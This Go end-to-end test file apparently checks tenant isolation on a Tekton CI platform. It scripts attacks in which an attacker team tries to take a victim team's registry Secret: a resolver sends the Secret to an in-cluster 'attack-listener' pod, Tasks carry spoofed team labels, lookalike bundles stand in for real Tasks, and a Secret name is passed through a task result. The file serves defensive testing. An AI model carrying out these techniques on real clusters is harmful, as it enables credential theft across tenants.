//go:build e2e

package e2e

import (
	"context"
	"testing"
	"time"

	pipelinev1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"

	"github.com/comptech-lab/quay-push/test/stage"
)

// A resolver fetches code of the attacker's from elsewhere, and may send a Secret there.
var resolverAttacks = map[string]attack{
	"a Secret for a resolver": {
		send: func(ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) error {
			return f.resolved(ctx, name, "platform", "http", "url", "http://"+catcher+"."+stage.Platform.Namespace+".svc/"+name,
				"http-username", "x", "http-password-secret", victim.Secret, "http-password-secret-key", corev1.DockerConfigJsonKey)
		},
		won: func(t *testing.T, ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) {
			prints(t, ctx, stage.Platform.Namespace, "app="+catcher, name, f.robot)
		},
	},
	// Tekton copies the labels of a Task that it resolved onto the TaskRun.
	"a Task with a label": {
		send: func(ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) error {
			return f.resolved(ctx, name, "", "cluster", "kind", "task", "name", "loot-first", "namespace", stage.Platform.Namespace)
		},
		won: func(t *testing.T, ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) {
			prints(t, ctx, stage.SharedNamespace, "tekton.dev/taskRun="+name, f.robot)
		},
	},
	"a Task with the second label":            ownTask("loot-second"),
	"a Task with the label of the controller": ownTask("loot-controller"),
	"a Pipeline of the own namespace":         pipelineRun(resolvedPipeline),
	"a lookalike Pipeline of an own bundle": pipelineRun(func(f *playground) pipelinev1.PipelineRunSpec {
		return pipelinev1.PipelineRunSpec{PipelineRef: &pipelinev1.PipelineRef{ResolverRef: bundled(f.bundle, "pipeline", "build-and-push-image")}}
	}),
	"a lookalike Task of an own bundle": pipelineRun(func(f *playground) pipelinev1.PipelineRunSpec {
		return pipelinev1.PipelineRunSpec{PipelineSpec: &pipelinev1.PipelineSpec{Tasks: []pipelinev1.PipelineTask{{Name: "t",
			TaskRef: &pipelinev1.TaskRef{ResolverRef: bundled(f.bundle, "task", "push-image-quay")}}}}}
	}),
	"a TaskRun of a lookalike": {
		send: func(ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) error {
			return f.resolved(ctx, name, "platform", "bundles", "bundle", f.bundle, "kind", "task", "name", "push-image-quay")
		},
		won: func(t *testing.T, ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) {
			prints(t, ctx, stage.SharedNamespace, "tekton.dev/taskRun="+name, f.robot)
		},
	},
	"the name of a Secret from a result": pipelineRun(secretFromResult),
}

// ownTask is a run of the own team whose Task is in the attacker's namespace.
func ownTask(task string) attack {
	return pipelineRun(func(*playground) pipelinev1.PipelineRunSpec {
		return pipelinev1.PipelineRunSpec{PipelineSpec: &pipelinev1.PipelineSpec{Tasks: []pipelinev1.PipelineTask{{Name: "t",
			TaskRef: &pipelinev1.TaskRef{ResolverRef: resolver("cluster", "kind", "task", "name", task, "namespace", stage.Platform.Namespace)}}}}}
	})
}

// pipelineRun is a run of the own team that prints the victim's Secret.
func pipelineRun(spec func(*playground) pipelinev1.PipelineRunSpec) attack {
	return attack{
		send: func(ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) error {
			_, err := f.attacker.TektonV1().PipelineRuns(stage.SharedNamespace).Create(ctx, &pipelinev1.PipelineRun{
				ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"apps.platform/team": "platform"}}, Spec: spec(f)}, metav1.CreateOptions{})
			return err
		},
		won: func(t *testing.T, ctx context.Context, f *playground, name string, _ *pipelinev1.PipelineRun) {
			prints(t, ctx, stage.SharedNamespace, "tekton.dev/pipelineRun="+name, f.robot)
		},
	}
}

func resolvedPipeline(*playground) pipelinev1.PipelineRunSpec {
	return pipelinev1.PipelineRunSpec{PipelineRef: &pipelinev1.PipelineRef{
		ResolverRef: resolver("cluster", "kind", "pipeline", "name", "loot", "namespace", stage.Platform.Namespace)}}
}

func secretFromResult(f *playground) pipelinev1.PipelineRunSpec {
	named := f.reads([2]string{"$(params.names[0])", corev1.DockerConfigJsonKey})
	named.Params = pipelinev1.ParamSpecs{{Name: "names", Type: pipelinev1.ParamTypeArray}}
	return pipelinev1.PipelineRunSpec{PipelineSpec: &pipelinev1.PipelineSpec{Tasks: []pipelinev1.PipelineTask{
		{Name: "a", TaskSpec: &pipelinev1.EmbeddedTask{TaskSpec: pipelinev1.TaskSpec{Results: []pipelinev1.TaskResult{{Name: "name"}},
			Steps: []pipelinev1.Step{f.step("result", "name="+victim.Secret)}}}},
		{Name: "b", Params: pipelinev1.Params{{Name: "names", Value: pipelinev1.ParamValue{Type: pipelinev1.ParamTypeArray, ArrayVal: []string{"$(tasks.a.results.name)"}}}},
			TaskSpec: &pipelinev1.EmbeddedTask{TaskSpec: named}},
	}}}
}

// resolved sends a TaskRun of a team, or of none, whose Task a resolver fetches.
func (f *playground) resolved(ctx context.Context, name, team, by string, params ...string) error {
	run := &pipelinev1.TaskRun{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: pipelinev1.TaskRunSpec{TaskRef: &pipelinev1.TaskRef{ResolverRef: resolver(by, params...)}}}
	if team != "" {
		run.Labels = map[string]string{"apps.platform/team": team}
	}
	_, err := f.attacker.TektonV1().TaskRuns(stage.SharedNamespace).Create(ctx, run, metav1.CreateOptions{})
	return err
}

// resolver is a reference by a resolver, with params as name, value, name, value and so on.
func resolver(by string, params ...string) pipelinev1.ResolverRef {
	ref := pipelinev1.ResolverRef{Resolver: pipelinev1.ResolverName(by)}
	for i := 0; i < len(params); i += 2 {
		ref.Params = append(ref.Params, pipelinev1.Param{Name: params[i], Value: *pipelinev1.NewStructuredValues(params[i+1])})
	}
	return ref
}

// putOwnTasks puts Tasks and a Pipeline with labels of the victim's into the attacker's namespace, as the attacker, until the end of the test.
func (f *playground) putOwnTasks(t *testing.T, ctx context.Context) {
	t.Helper()
	loot := f.reads([2]string{victim.Secret, corev1.DockerConfigJsonKey})
	client := f.own.TektonV1()
	for name, labels := range map[string]map[string]string{
		"loot-first":      {"apps.platform/team": "payments"},
		"loot-second":     {"pipeline.comptech-lab.com/team": "payments"},
		"loot-controller": {"quay.comptech-lab.com/team": "payments", "quay.comptech-lab.com/managed": "true"},
	} {
		task := &pipelinev1.Task{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}, Spec: loot}
		if _, err := client.Tasks(stage.Platform.Namespace).Create(ctx, task, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			_ = s.Tekton.TektonV1().Tasks(stage.Platform.Namespace).Delete(context.Background(), name, metav1.DeleteOptions{})
		})
	}
	pipeline := &pipelinev1.Pipeline{ObjectMeta: metav1.ObjectMeta{Name: "loot", Labels: map[string]string{"pipeline.comptech-lab.com/team": "payments"}},
		Spec: pipelinev1.PipelineSpec{Tasks: []pipelinev1.PipelineTask{{Name: "t", TaskSpec: &pipelinev1.EmbeddedTask{TaskSpec: loot}}}}}
	if _, err := client.Pipelines(stage.Platform.Namespace).Create(ctx, pipeline, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = s.Tekton.TektonV1().Pipelines(stage.Platform.Namespace).Delete(context.Background(), "loot", metav1.DeleteOptions{})
	})
}

// catcher is a Pod of the attacker's, and its Service, which prints who sends it what.
const catcher = "attack-listener"

func putCatcher(t *testing.T, ctx context.Context, image string) {
	t.Helper()
	labels := map[string]string{"app": catcher}
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: catcher, Labels: labels}, Spec: corev1.PodSpec{
		Containers: []corev1.Container{{Name: "listen", Image: image, Args: []string{"listen", ":8080"},
			ReadinessProbe: &corev1.Probe{PeriodSeconds: 1, ProbeHandler: corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt32(8080)}}}}}}}
	service := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: catcher}, Spec: corev1.ServiceSpec{Selector: labels,
		Ports: []corev1.ServicePort{{Port: 80, TargetPort: intstr.FromInt32(8080)}}}}
	core, namespace := s.Kube.CoreV1(), stage.Platform.Namespace
	if _, err := core.Pods(namespace).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = core.Pods(namespace).Delete(context.Background(), catcher, metav1.DeleteOptions{GracePeriodSeconds: new(int64(0))})
	})
	if _, err := core.Services(namespace).Create(ctx, service, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = core.Services(namespace).Delete(context.Background(), catcher, metav1.DeleteOptions{})
	})
	waitUntil(t, within(t, time.Minute), "the attacker's Pod listens", func() bool {
		pod, err := core.Pods(namespace).Get(ctx, catcher, metav1.GetOptions{})
		if err != nil {
			return false
		}
		for _, c := range pod.Status.Conditions {
			if c.Type == corev1.PodReady && c.Status == corev1.ConditionTrue {
				return true
			}
		}
		return false
	})
}
